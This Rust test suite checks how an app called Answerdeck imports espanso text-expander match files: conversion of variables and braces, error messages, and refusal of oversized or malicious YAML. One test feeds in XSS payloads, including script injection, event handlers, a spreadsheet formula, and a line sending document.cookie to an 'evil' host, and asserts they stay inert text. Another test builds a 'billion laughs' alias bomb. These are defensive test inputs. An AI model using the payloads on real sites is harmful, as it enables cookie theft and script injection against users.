//! espanso match files → replies: a realistic multi-document file, hostile content, every conversion
//! rule (fields, echo, literal variables and braces, HTML/Markdown, images, cursor, regex, merges),
//! the refusals with their place, and hostile YAML (alias bombs, deep nesting).
#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use std::fs;
use std::path::Path;

use answerdeck::core::exchange::espanso::parse;
use answerdeck::core::exchange::Imported;
use answerdeck::core::reply::{validate_reply, Reply};
use answerdeck::core::template::{parse as parse_template, render_str, Context};

fn fixture(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/import")
        .join(name);
    fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn import(text: &str) -> Imported {
    parse(text, |_| false).unwrap_or_else(|e| panic!("refused: {e}"))
}

fn refusal(text: &str) -> String {
    match parse(text, |_| false) {
        Ok(imported) => panic!("accepted {text:?}: {imported:?}"),
        Err(e) => e.to_string(),
    }
}

/// What inserting the reply would type, with no page facts.
fn rendered(body: &str) -> String {
    render_str(body, &Context::default()).unwrap().text
}

fn by_shortcut<'a>(replies: &'a [Reply], shortcut: &str) -> &'a Reply {
    replies
        .iter()
        .find(|r| r.shortcut.as_deref() == Some(shortcut))
        .unwrap_or_else(|| panic!("no reply with shortcut {shortcut}"))
}

#[test]
fn team_match_file_with_two_documents() {
    let imported = import(&fixture("espanso-base.yml"));
    let r = &imported.replies;
    let shortcuts: Vec<Option<&str>> = r.iter().map(|r| r.shortcut.as_deref()).collect();
    assert_eq!(
        shortcuts,
        [
            Some("order"),
            Some("bestellung"),
            Some("ordre"),
            Some("link"),
            Some("thx"),
            Some("json"),
            Some("hours"),
            Some("promo"),
            Some("sig"),
            None,
            Some("tmpl"),
            Some("refund"),
            Some("merged"),
            Some("tak"),
        ],
        "the image match and the empty one are skipped"
    );
    for reply in r {
        validate_reply(reply).unwrap();
        assert_eq!(reply.language, None);
    }

    let order = by_shortcut(r, "order");
    assert_eq!(order.id, "r-order-status-en");
    assert_eq!(order.title, "Order status (EN)");
    assert_eq!(
        order.body,
        "Hi there, your order is on its way! Track it any time in your account."
    );

    let form_var = by_shortcut(r, "bestellung");
    assert_eq!(
        form_var.body,
        "Hallo {?name}, Ihre Bestellung {?bestellnummer} ist unterwegs."
    );
    assert_eq!(
        parse_template(&form_var.body).unwrap().fields(),
        ["name", "bestellnummer"]
    );

    let form = by_shortcut(r, "ordre");
    assert_eq!(
        form.body,
        "Hej {?navn},\ndin ordre {?ordrenummer} er afsendt og er fremme om 2–3 dage.\nVenlig hilsen\n"
    );
    assert_eq!(
        form.title,
        "Hej, din ordre er afsendt og er fremme om 2–3 dage. Venlig…"
    );

    let literal = by_shortcut(r, "link");
    assert_eq!(
        rendered(&literal.body),
        "Here is the link you asked for: {{clipboard}} (sent {{today}})",
        "variables without an equivalent are kept as the text espanso users wrote"
    );
    assert_eq!(literal.title, "Here is the link you asked for: (sent)");

    let echo = by_shortcut(r, "thx");
    assert_eq!(
        echo.body, "Hi! Thanks so much for the kind words 🙏",
        "an echo variable (via an alias) is written in"
    );
    assert_eq!(echo.title, "Hi! Thanks so much for the kind words 🙏");

    let braces = by_shortcut(r, "json");
    assert_eq!(
        braces.body,
        "Send us {{\"order\": 123}} and we will check {{it}}."
    );
    assert_eq!(
        rendered(&braces.body),
        "Send us {\"order\": 123} and we will check {it}."
    );

    assert_eq!(
        by_shortcut(r, "hours").body,
        "**Opening hours:** Mon–Fri 9–17\n_Weekends: closed_"
    );
    let html = by_shortcut(r, "promo");
    assert_eq!(
        html.body, "<p>Spring sale: <b>20% off</b> everything!</p>",
        "HTML stays text"
    );
    assert_eq!(html.title, "Spring sale: 20% off everything!");

    assert_eq!(
        by_shortcut(r, "sig").body,
        "Best regards,\n\nThe Nordlys team"
    );
    assert_eq!(r[9].body, "The price of {{{{item}}}} is on our website.");
    assert_eq!(
        rendered(&by_shortcut(r, "tmpl").body),
        "Use {{first_name}} in your own template"
    );

    let refund = by_shortcut(r, "refund");
    assert_eq!(refund.tags, ["refund", "return", "money back"]);
    assert_eq!(
        refund.body,
        "You can return anything within 30 days.\nRefunds take 5–7 business days.\n"
    );
    assert_eq!(
        refund.title,
        "You can return anything within 30 days. Refunds take 5–7…"
    );

    assert_eq!(by_shortcut(r, "merged").body, "From a merge key");
    assert_eq!(by_shortcut(r, "tak").title, "Tak (DA)");

    assert_eq!(
        imported.warnings,
        [
            "global_vars are not imported (Answerdeck has no equivalent); matches using them keep {{name}} as literal text",
            "imports are not followed; import these files too: ../shared/signatures.yml",
            "document 1, matches[1] (line 25): only the first trigger became the shortcut; not imported: :best",
            "document 1, matches[2] (line 35): form field navn offered a choice; in Answerdeck it is a free-text field {?navn}",
            "document 1, matches[3] (line 48): {{clipboard}} (a clipboard variable) has no Answerdeck equivalent; kept as literal text",
            "document 1, matches[3] (line 48): {{today}} (a date variable) has no Answerdeck equivalent; kept as literal text",
            "document 1, matches[6] (line 70): Markdown imported as plain text: the marks appear as typed",
            "document 1, matches[7] (line 72): HTML imported as plain text: the tags appear as typed",
            "document 1, matches[8] (line 76): image matches have no Answerdeck equivalent (replies are text); skipped",
            "document 1, matches[9] (line 80): the cursor marker $|$ was removed (the caret goes after the inserted text)",
            "document 1, matches[10] (line 84): {{item}} (not declared in the match; a global or built-in variable) has no Answerdeck equivalent; kept as literal text",
            "document 1, matches[10] (line 84): regex triggers have no Answerdeck equivalent; imported without a shortcut",
            "document 2, matches[1] (line 109): the replacement is empty; skipped",
        ]
    );
}

#[test]
fn hostile_content_arrives_as_inert_text() {
    let imported = import(&fixture("espanso-hostile.yml"));
    let r = &imported.replies;
    assert_eq!(r.len(), 4);
    assert_eq!(r[0].title, "<script>alert('label')</script>");
    assert_eq!(r[0].shortcut.as_deref(), Some("<script>"));
    assert_eq!(
        r[0].tags,
        ["<svg onload=alert(1)>", "=HYPERLINK(\"http://evil\")"]
    );
    assert_eq!(
        r[0].body,
        "<img src=x onerror=\"alert(1)\"> {?x} </textarea><script>fetch('//evil')</script>"
    );
    assert_eq!(
        rendered(&r[1].body),
        "<script>document.location='//evil?'+document.cookie</script><b onclick=\"alert(1)\">bold</b>"
    );
    assert_eq!(
        rendered(&r[2].body),
        "<iframe src=\"javascript:alert(1)\"></iframe> {first_name} }}",
        "an echo value with our own placeholder syntax stays literal"
    );
    assert_eq!(
        rendered(&r[3].body),
        "{{out}}",
        "a shell variable is never run, only shown"
    );
    for reply in r {
        validate_reply(reply).unwrap();
    }
}

#[test]
fn refusals_name_the_match_field_and_line() {
    assert_eq!(
        refusal(&fixture("espanso-bad-replace.yml")),
        "matches[3].replace (line 10): must be text, found a list"
    );
    let long_label = format!(
        "matches:\n  - trigger: x\n    label: {}\n    replace: y\n",
        "l".repeat(301)
    );
    let long_body = format!(
        "matches:\n  - trigger: x\n    replace: {}\n",
        "b".repeat(50_001)
    );
    // Nested by indentation (the parser itself caps bracket nesting, see below).
    let deep: String = (0..100)
        .map(|depth| format!("{}k{depth}:\n", " ".repeat(depth)))
        .collect();
    let cases: Vec<(String, &str)> = vec![
        ("".into(), "(file): the file is empty"),
        ("\u{feff}  \n".into(), "(file): the file is empty"),
        ("matches:\n\t- trigger: x\n".into(), "line 2, column 2: not valid YAML: tabs disallowed within this context (block indentation) (YAML indents with spaces, not tabs)"),
        ("matches: [\n".into(), "line 2, column 1: not valid YAML:"),
        ("toggle_key: ALT\nbackend: Clipboard\n".into(), "(file): no matches: list found; this looks like an espanso configuration file (config/default.yml); choose a match file such as match/base.yml"),
        ("name: x\n".into(), "(file): no matches: list found; choose an espanso match file such as match/base.yml (it has a matches: list)"),
        ("- trigger: x\n".into(), "line 1: an espanso match file is a mapping with a matches: list; found a list"),
        ("matches: {trigger: x}\n".into(), "matches (line 1): must be a list of matches, found a mapping"),
        ("matches:\n  - just text\n".into(), "matches[0] (line 2): must be a mapping with trigger and replace, found text"),
        ("matches:\n  - trigger: x\n    label: y\n".into(), "matches[0] (line 2): has no replace text (an espanso match needs one of replace, form, markdown, html or image_path)"),
        ("matches:\n  - trigger: x\n    replace: y\n    html: z\n".into(), "matches[0].html (line 4): this match has both replace and html; espanso takes only one of"),
        ("matches:\n  - trigger: x\n    replace: y\n    replace: z\n".into(), "matches[0].replace (line 4): appears twice in this match; keep one"),
        ("matches:\n  - trigger: [x]\n    replace: y\n".into(), "matches[0].trigger (line 2): must be text, found a list"),
        ("matches:\n  - triggers: {a: b}\n    replace: y\n".into(), "matches[0].triggers (line 2): must be a list, found a mapping"),
        ("matches:\n  - trigger: x\n    replace: y\n    vars: [oops]\n".into(), "matches[0].vars[0] (line 4): must be a mapping with name and type, found text"),
        (long_label, "matches[0].label (line 3): is 301 characters long; the limit is 300"),
        (long_body, "matches[0].replace (line 3): is 50,001 characters long; the limit is 50,000"),
        ("matches:\n  - trigger: x\n    replace: *nowhere\n".into(), "line 3, column 14: not valid YAML:"),
        (deep, "line 65: nested more than 64 levels deep"),
        (format!("matches: {}{}", "[".repeat(100_000), "]".repeat(100_000)), "line 1, column 265: not valid YAML: recursion limit exceeded"),
        ("a: 1\n---\nmatches:\n  - {trigger: x}\n".into(), "document 2, matches[0] (line 4): has no replace text"),
    ];
    for (text, expected) in &cases {
        let got = refusal(text);
        let shown: String = text.chars().take(80).collect();
        assert!(
            got.starts_with(expected),
            "for {shown:?}…\n  got: {got}\n want: {expected}…"
        );
    }
}

#[test]
fn alias_bombs_are_refused_before_they_expand() {
    // "Billion laughs": each level repeats the one before ten times, 10^9 nodes in nine lines.
    let mut text = String::from("a0: &a0 [lol]\n");
    for level in 1..10 {
        let refs = vec![format!("*a{}", level - 1); 10].join(", ");
        text.push_str(&format!("a{level}: &a{level} [{refs}]\n"));
    }
    text.push_str("matches:\n  - trigger: x\n    replace: *a9\n");
    let got = refusal(&text);
    assert!(
        got.contains(
            "aliases (*name) here repeat anchored parts into far more data than the file holds"
        ),
        "{got}"
    );
}

#[test]
fn triggers_become_shortcuts_when_they_can() {
    let imported = import(
        "matches:
  - {trigger: '::double', replace: a}
  - {trigger: ';;sig', replace: b}
  - {trigger: '!!tel', replace: c}
  - {trigger: '//addr', replace: d}
  - {trigger: 'two words', replace: e}
  - {trigger: ':::', replace: f}
  - {trigger: ':averyveryveryverylongtriggerthatgoesonandon', replace: g}
  - {replace: no trigger at all}
",
    );
    let shortcuts: Vec<Option<&str>> = imported
        .replies
        .iter()
        .map(|r| r.shortcut.as_deref())
        .collect();
    assert_eq!(
        shortcuts,
        [
            Some("double"),
            Some("sig"),
            Some("tel"),
            Some("addr"),
            None,
            None,
            None,
            None
        ]
    );
    assert_eq!(
        imported.warnings,
        [
            "matches[4] (line 6): trigger \"two words\" cannot be a shortcut (\"two words\" contains a space; shortcuts are one word); imported without one",
            "matches[5] (line 7): trigger \":::\" has no letters to use as a shortcut; imported without one",
            "matches[6] (line 8): trigger \":averyveryveryverylongtriggerthatgoesonandon\" cannot be a shortcut (is 43 characters long; the limit is 32); imported without one",
        ]
    );
    assert_eq!(imported.replies[5].title, "f");
    assert_eq!(imported.replies[7].title, "no trigger at all");
}

#[test]
fn titles_without_label_or_text_fall_back_to_the_shortcut_then_the_position() {
    let imported = import("matches:\n  - {trigger: ':clip', replace: '{{clipboard}}'}\n  - {regex: 'x', replace: '{{clipboard}}'}\n");
    assert_eq!(imported.replies[0].title, "clip");
    assert_eq!(imported.replies[1].title, "espanso match 2");
}

#[test]
fn ids_are_unique_against_the_library_and_each_other() {
    let text = "matches:\n  - {trigger: a, label: Hello, replace: x}\n  - {trigger: b, label: Hello, replace: y}\n";
    let imported = parse(text, |id| id == "r-hello").unwrap();
    let ids: Vec<&str> = imported.replies.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(ids, ["r-hello-2", "r-hello-3"]);
}

#[test]
fn braces_and_placeholders_convert_exactly() {
    let text = r#"matches:
  - trigger: a
    replace: "{ {{ }} }} {{ spaced }} {{form1.f}} {{x.y}} {{}} [[notform]]"
    vars:
      - {name: form1, type: form}
      - {name: spaced, type: echo, params: {echo: "E{c}"}}
  - trigger: b
    form: "[[ f1 ]] and [[f-2]] and [[bad name]] and {braces}"
"#;
    let imported = import(text);
    let first = &imported.replies[0];
    assert_eq!(
        first.body,
        "{{ {{{{ }}}} }}}} E{{c}} {?f} {{{{x.y}}}} {{{{}}}} [[notform]]"
    );
    // The renderer shows an unfilled fill-in field as ‹label›.
    assert_eq!(
        rendered(&first.body),
        "{ {{ }} }} E{c} ‹f› {{x.y}} {{}} [[notform]]"
    );
    assert_eq!(
        imported.replies[1].body,
        "{?f1} and {?f-2} and [[bad name]] and {{braces}}"
    );
    assert_eq!(
        imported.warnings,
        ["matches[0] (line 2): {{x.y}} (not declared in the match; a global or built-in variable) has no Answerdeck equivalent; kept as literal text"]
    );
}

#[test]
fn numbers_and_booleans_in_text_fields_are_their_text() {
    let imported = import("matches:\n  - {trigger: ':42', label: 2024, replace: 3.14}\n  - {trigger: t, replace: true, search_terms: [1, yes]}\n");
    assert_eq!(imported.replies[0].title, "2024");
    assert_eq!(imported.replies[0].body, "3.14");
    assert_eq!(imported.replies[0].shortcut.as_deref(), Some("42"));
    assert_eq!(imported.replies[1].body, "true");
    assert_eq!(imported.replies[1].tags, ["1", "yes"]);
}

#[test]
fn crlf_files_and_byte_order_mark_are_read() {
    let imported = import("\u{feff}matches:\r\n  - trigger: \":hi\"\r\n    replace: |\r\n      Hello\r\n      there\r\n");
    assert_eq!(imported.replies[0].body, "Hello\nthere\n");
}

#[test]
fn refuses_more_than_100000_matches() {
    let mut text = String::from("matches:\n");
    for _ in 0..100_001 {
        text.push_str("- {replace: b}\n");
    }
    assert!(refusal(&text).starts_with("(file): the file holds more than 100,000 replies"));
}
